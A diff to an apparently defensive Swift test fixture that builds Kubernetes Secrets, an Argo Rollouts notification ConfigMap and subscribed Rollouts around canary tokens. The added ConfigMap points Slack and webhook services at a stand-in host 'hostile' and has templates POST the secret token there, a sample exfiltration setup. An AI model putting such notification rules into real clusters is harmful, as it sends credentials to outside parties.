@@ -8,7 +8,7 @@ struct CanaryDocuments {
     let canaries: Canaries
 
     /// What can be created and played.
-    var good: [JSON] { secrets + templates + [rollout(tag: "v1")] }
+    var good: [JSON] { secrets + templates + [notificationRules, rollout(tag: "v1")] }
 
     /// Rollouts whose environment is written wrongly, and told to be.
     var broken: [JSON] {
@@ -25,6 +25,7 @@ struct CanaryDocuments {
             secret("provider", ["token": .token, "basic": .basic, "query": .query]),
             secret("pods", ["PASSWORD": .podSecret]),
             secret("tls", ["tls.crt": .tlsKey, "tls.key": .tlsKey]),
+            secret("argo-rollouts-notification-secret", ["token": .messageToken]),
         ]
     }
 
@@ -32,6 +33,30 @@ struct CanaryDocuments {
         [
             "apiVersion": "v1", "kind": "Secret", "metadata": metadata(name),
             "stringData": JSON(strings: kinds.mapValues { canaries[$0] }),
+        ]
+    }
+
+    /// Two services, one of which is brought its own password, too.
+    private var notificationRules: JSON {
+        let data = [
+            "service.slack": "token: $token\napiURL: http://hostile",
+            "service.webhook.hook": """
+            url: http://prober:$token@hostile
+            headers: [{name: X-Api-Key, value: "\(canaries[.messageHeader])"}]
+            """,
+            "template.told": """
+            message: "{{.rollout.metadata.name}} {{.secrets.token}}"
+            webhook: {hook: {method: POST, body: "{{int .secrets.token}}"}}
+            """,
+            "template.hook": "webhook: {hook: {method: POST, body: \"{{.secrets.token}}\"}}",
+            "trigger.on-rollout-completed": "- send: [told]",
+            "trigger.on-rollout-aborted": "- send: [hook]",
+            "trigger.broken": "- send: [told]\n  when: \"'\(canaries[.messageHeader])' <\"",
+        ]
+        return [
+            "apiVersion": "v1", "kind": "ConfigMap",
+            "metadata": metadata("argo-rollouts-notification-configmap"),
+            "data": JSON(strings: data),
         ]
     }
 
@@ -106,8 +131,17 @@ struct CanaryDocuments {
             "name": "app", "image": .string("shop:\(tag)"), "env": environment ?? careless,
             "envFrom": [["secretRef": ["name": "pods"]]],
         ]
+        let subscriptions =
+            ["on-rollout-completed.slack", "on-rollout-completed.hook"]
+            + ["on-rollout-aborted.hook"]
+        var metadata = metadata(name)
+        metadata["annotations"] = JSON(
+            strings: Dictionary(
+                uniqueKeysWithValues: subscriptions.map {
+                    ("notifications.argoproj.io/subscribe.\($0)", "somebody")
+                }))
         return [
-            "apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "metadata": metadata(name),
+            "apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "metadata": metadata,
             "spec": [
                 "replicas": 1, "selector": ["matchLabels": ["app": .string(name)]],
                 "template": [
@@ -133,6 +167,7 @@ struct CanaryDocuments {
         _ = try await server.create(Object(namespace), in: .namespaces)
         let kinds: [String: Resource] = [
             "Secret": .secrets, "AnalysisTemplate": .analysisTemplates, "Rollout": .rollouts,
+            "ConfigMap": .configMaps,
         ]
         for json in documents {
             let object = Object(json)
